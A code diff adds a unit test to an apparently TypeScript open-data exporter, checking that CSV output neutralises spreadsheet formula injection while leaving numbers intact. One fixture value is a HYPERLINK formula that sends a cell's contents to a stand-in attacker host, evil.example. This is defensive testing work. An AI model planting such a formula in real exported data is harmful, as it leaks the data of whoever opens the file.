@@ -87,6 +87,34 @@ describe('open data', () => {
     ]);
     expect(parseCsv(toCsv(observations, observationColumns))).toHaveLength(observations.length + 1);
   });
+
+  it('writes text cells that a spreadsheet would run as a formula as text, and keeps numbers numbers', () => {
+    const real = figures.find((f) => f.sentence.includes('高新技术企业'));
+    if (!real) throw new Error('no figure about 高新技术企业');
+    const hostile = {
+      ...real,
+      sentence: '=HYPERLINK("http://evil.example/?q="&A1,"点击查看原文")',
+      label: '+高新技术企业',
+      raw: '-3.5%',
+      unit: '@SUM(A1:A9)',
+      period: '\t2021',
+      source: '\r2021',
+      value: -3.5,
+    };
+    const [header, row] = parseCsv(toCsv([hostile], figureColumns));
+    if (!header || !row) throw new Error('no rows');
+    const cell = (column: (typeof figureColumns)[number]) => row[header.indexOf(column)];
+    expect(cell('sentence')).toBe(`'${hostile.sentence}`);
+    expect(cell('label')).toBe("'+高新技术企业");
+    expect(cell('raw')).toBe("'-3.5%");
+    expect(cell('unit')).toBe("'@SUM(A1:A9)");
+    expect(cell('period')).toBe("'\t2021");
+    expect(cell('source')).toBe("'\r2021");
+    // A number field is a number, negative or not; a text that merely contains = or - is left alone.
+    expect(cell('value')).toBe('-3.5');
+    expect(cell('id')).toBe(real.id);
+    expect(parseCsv(toCsv([{ a: 'a=b-c', n: -0.25, m: 12 }], ['a', 'n', 'm']))[1]).toEqual(['a=b-c', '-0.25', '12']);
+  });
 });
 
 describe('analysis', () => {
